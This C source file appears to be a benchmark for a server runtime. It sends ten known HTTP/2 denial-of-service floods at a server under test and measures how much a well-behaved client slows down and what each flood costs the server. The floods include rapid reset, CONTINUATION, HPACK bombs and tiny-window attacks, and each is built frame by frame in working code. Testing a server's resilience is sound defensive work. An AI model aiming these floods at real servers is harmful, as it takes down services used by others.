/* SPDX-License-Identifier: MIT */
/* edo-bench-hostile-http2 [-d SECONDS] [-k KIND] --pid PID HOST:PORT: clients that flood a server
 * by HTTP/2, in clear text, and one that is well-behaved.
 *
 * Question: what does the good client notice, and what does each flood cost the server? For each
 * kind it prints the 50th and 99th percentile of the good client's requests before and during it,
 * the server's time on a core, its memory, and how many connections it has ended a second.
 *
 * A flood goes on until the server ends its connection, and then comes again. The good client is a
 * plain thread with one connection, a request every millisecond, alone before each kind, since
 * machines drift. The server runs on one thread and the hostile clients on another, so two cores
 * are needed. */
#include "victim.h"

enum { EXIT_USAGE = 2 };

#define HELLO    "GET / HTTP/1.1\r\nHost: h\r\n\r\n"
#define PREFACE  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#define UNIT_MAX 17000u /* bytes of what a flood repeats */
#define UNITS    16u    /* of a write */

typedef struct options {
    const char *address;
    int seconds;
    int pid;
    const char *only; /* NULL: all kinds */
} options;

static edo_addr server_at;
static atomic_bool ends; /* the kind that runs */
static atomic_int connected_n;

/* ---- The good client ------------------------------------------------------------------------- */

/* A response to HELLO is read whole: it has 13 bytes of body. */
static void exchange(int fd) {
    char text[2048];
    size_t n = 0;
    if (send(fd, HELLO, sizeof HELLO - 1, MSG_NOSIGNAL) < 0) fail("good client: send");
    while (n < 13 || memcmp(text + n - 13, "Hello, World!", 13) != 0) {
        ssize_t got = recv(fd, text + n, sizeof text - n, 0);
        if (got <= 0) fail("good client: recv");
        n += (size_t)got;
    }
}

static int comes(void) {
    return plain_client(&server_at);
}

static visitor good = { .open = comes, .visit = exchange, .pause_ms = 1 };

/* What the good client sees for that long, while tasks of this runtime run. */
static times measure(int seconds) {
    visitor_start(&good);
    (void)edo_sleep(edo_s(seconds));
    visitor_stop(&good);
    return visitor_times(&good);
}

/* ---- Frames ---------------------------------------------------------------------------------- */

enum { DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION };
#define END_STREAM  1u
#define END_HEADERS 4u

#define GET_HELLO "\x82\x86\x84\x41\1h" // GET / of h
#define GET_FILE  "\x82\x86\x04\x08/16k.bin\x41\1h"
#define POST_ECHO "\x83\x86\x04\5/echo\x41\1h"

static size_t frame(char *to, uint8_t type, uint8_t flags, uint32_t id, const void *bytes,
                    size_t n) {
    const uint8_t head[9] = {
        (uint8_t)(n >> 16),  (uint8_t)(n >> 8),   (uint8_t)n,         type,       flags,
        (uint8_t)(id >> 24), (uint8_t)(id >> 16), (uint8_t)(id >> 8), (uint8_t)id
    };
    memcpy(to, head, sizeof head);
    if (n > 0) memcpy(to + sizeof head, bytes, n);
    return sizeof head + n;
}

/* Of a text without its NUL. */
#define FRAME(to, type, flags, id, text)                                                           \
    frame((to), (type), (flags), (id), (text), sizeof(text) - 1)

/* ---- Floods: the unit number `i` of a connection, and how long it is ------------------------- */

static size_t resets(char *to, uint32_t i) {
    size_t n = FRAME(to, HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, GET_HELLO);
    return n + FRAME(to + n, RST, 0, 2 * i + 1, "\0\0\0\x08");
}

static size_t makes_reset(char *to, uint32_t i) {
    size_t n = FRAME(to, HEADERS, END_HEADERS, 2 * i + 1, POST_ECHO);
    return n + FRAME(to + n, WINDOW_UPDATE, 0, 2 * i + 1, "\x7f\xff\xff\xff");
}

static size_t continues(char *to, uint32_t i) {
    return i == 0 ? FRAME(to, HEADERS, 0, 1, GET_HELLO) : FRAME(to, CONTINUATION, 0, 1, "");
}

static size_t pings(char *to, uint32_t i) {
    (void)i;
    return FRAME(to, PING, 0, 0, "12345678");
}

static size_t sets(char *to, uint32_t i) {
    (void)i;
    return FRAME(to, SETTINGS, 0, 0, "\0\4\0\1\0\0");
}

static size_t prefers(char *to, uint32_t i) {
    return FRAME(to, PRIORITY, 0, 2 * (i % 1000) + 3, "\0\0\0\0\1");
}

static size_t says_nothing(char *to, uint32_t i) {
    size_t n = i == 0 ? FRAME(to, HEADERS, END_HEADERS, 1, POST_ECHO) : 0;
    return n + FRAME(to + n, DATA, 0, 1, "");
}

/* One field of 4,000 bytes in the table, and then a byte for each time that it is meant. */
static size_t repeats_a_field(char *to, uint32_t i) {
    static char block[16000];
    size_t n = sizeof GET_HELLO - 1;
    memcpy(block, GET_HELLO, n);
    memcpy(block + n, "\x40\1y\x7f\xa1\x1e", 6); // 127 + 33 + 30 * 128 bytes
    memset(block + n + 6, 'z', 4000);
    memset(block + n + 4006, 0x80 | 62, sizeof block - n - 4006);
    return frame(to, HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block, sizeof block);
}

/* Files without a window that they would fit into. */
static size_t asks_for_files(char *to, uint32_t i) {
    size_t n = i == 0 ? FRAME(to, SETTINGS, 0, 0, "\0\4\0\0\0\1") : 0;
    return n + FRAME(to + n, HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, GET_FILE);
}

/* Bodies on all streams, which nobody ends. */
static size_t sends_bodies(char *to, uint32_t i) {
    static const char piece[1000];
    const uint32_t id = 2 * (i % 200) + 1;
    if (i < 200) return FRAME(to, HEADERS, END_HEADERS, id, POST_ECHO);
    return frame(to, DATA, 0, id, piece, sizeof piece);
}

/* ---- Hostile clients ------------------------------------------------------------------------- */

typedef struct kind {
    const char *name;
    size_t (*unit)(char *to, uint32_t i);
    int n;        /* clients at once */
    uint32_t max; /* units of a connection, which then stays; 0: no end */
} kind;

static const kind kinds[] = {
    { "rapid reset", resets, 4, 0 },
    { "made you reset", makes_reset, 4, 0 },
    { "CONTINUATION", continues, 4, 0 },
    { "PING", pings, 4, 0 },
    { "SETTINGS", sets, 4, 0 },
    { "PRIORITY", prefers, 4, 0 },
    { "empty DATA", says_nothing, 4, 0 },
    { "HPACK bombs", repeats_a_field, 4, 0 },
    { "tiny windows", asks_for_files, 20, 200 },
    { "unread bodies", sends_bodies, 20, 1200 },
};

/* Writes units until the server ends the connection; `bytes` has room for UNITS of them. */
static int writes_units(edo_stream *c, const kind *k, char *bytes) {
    size_t n = sizeof PREFACE - 1;
    memcpy(bytes, PREFACE, n);
    n += FRAME(bytes + n, SETTINGS, 0, 0, "");
    int err = edo_write_all(c, bytes, n);
    for (uint32_t i = 0; err == 0 && !atomic_load(&ends) && (k->max == 0 || i < k->max);) {
        n = 0;
        for (uint32_t u = 0; u < UNITS; u++, i++) n += k->unit(bytes + n, i);
        err = edo_write_all(c, bytes, n);
    }
    return err;
}

static void floods(const kind *k) {
    char *bytes = malloc((size_t)UNITS * UNIT_MAX);
    edo_stream *c;
    if (!bytes) fail("malloc");
    if (edo_tcp_connect_addr(&c, &server_at, NULL) == 0) {
        atomic_fetch_add(&connected_n, 1);
        int err = writes_units(c, k, bytes);
        while (err == 0 && k->max > 0 && !atomic_load(&ends)) err = edo_sleep(edo_ms(100));
        edo_close(c);
    }
    free(bytes);
}

static int hostile_main(void *arg) {
    while (!atomic_load(&ends)) floods(arg);
    return 0;
}

/* ---- The kinds ------------------------------------------------------------------------------- */

static int run_kind(const options *o, const kind *k) {
    int fds = descriptors(o->pid);
    long before = resident_kib(o->pid);
    times quiet = measure(o->seconds);
    atomic_store(&ends, false);
    atomic_store(&connected_n, 0);
    edo_scope s;
    edo_scope_begin(&s, NULL);
    for (int i = 0; i < k->n; i++) edo_scope_spawn(&s, hostile_main, (void *)(uintptr_t)k);
    (void)edo_sleep(edo_ms(500)); // until they are at it
    int came = atomic_load(&connected_n);
    int64_t cpu = cpu_us(o->pid);
    times loud = measure(o->seconds);
    cpu = cpu_us(o->pid) - cpu;
    came = atomic_load(&connected_n) - came;
    long after = resident_kib(o->pid);
    atomic_store(&ends, true);
    edo_scope_cancel(&s);
    int err = edo_scope_end(&s, 0);
    printf("%-14s %4d %6u %6u %6u %6u %6u %6u %6.2f %6lld %7ld %7ld %6d\n", k->name, k->n,
           quiet.p50, quiet.usual, quiet.p99, loud.p50, loud.usual, loud.p99,
           (double)loud.usual / quiet.usual, (long long)(cpu / (10000 * o->seconds)), after,
           after - before, came / o->seconds);
    (void)fflush(stdout);
    if (!settles(o->pid, fds)) {
        printf("descriptors: %d, before there were %d\n", descriptors(o->pid), fds);
        return 1;
    }
    return err;
}

static int run(void *arg) {
    const options *o = arg;
    int err = 0;
    printf("us, of a request:   ------ alone -------  ---- beside n ------  ratio of  --- server "
           "------ ended\n"
           "%-14s %4s %6s %6s %6s %6s %6s %6s %6s %6s %7s %7s %6s\n",
           "", "n", "p50", "usual", "p99", "p50", "usual", "p99", "usual", "CPU %", "KiB", "more",
           "a s");
    for (size_t i = 0; i < EDO_COUNT(kinds) && err == 0; i++)
        if (!o->only || !strcmp(o->only, kinds[i].name)) err = run_kind(o, &kinds[i]);
    return err;
}

/* ---- The program ----------------------------------------------------------------------------- */

static void usage(void) {
    (void)fputs("usage: edo-bench-hostile-http2 [-d SECONDS] [-k KIND] --pid PID HOST:PORT\n",
                stderr);
    exit(EXIT_USAGE);
}

int main(int argc, char **argv) {
    (void)argc;
    options o = { .seconds = 3 };
    for (char **at = argv + 1; *at; at++) {
        if (!strcmp(*at, "-d") && at[1]) {
            o.seconds = (int)strtol(*++at, NULL, 10);
        } else if (!strcmp(*at, "-k") && at[1]) {
            o.only = *++at;
        } else if (!strcmp(*at, "--pid") && at[1]) {
            o.pid = (int)strtol(*++at, NULL, 10);
        } else {
            o.address = *at;
        }
    }
    if (!o.address || o.pid <= 0 || o.seconds <= 0) usage();
    if (edo_addr_parse(&server_at, o.address) < 0) usage();
    set_nice(19); // the hostile clients are to use up the server's time, not that of the good one
    return edo_main_with(run, &o, &(edo_runtime_opts){ .flavor = EDO_RUNTIME_CURRENT });
}
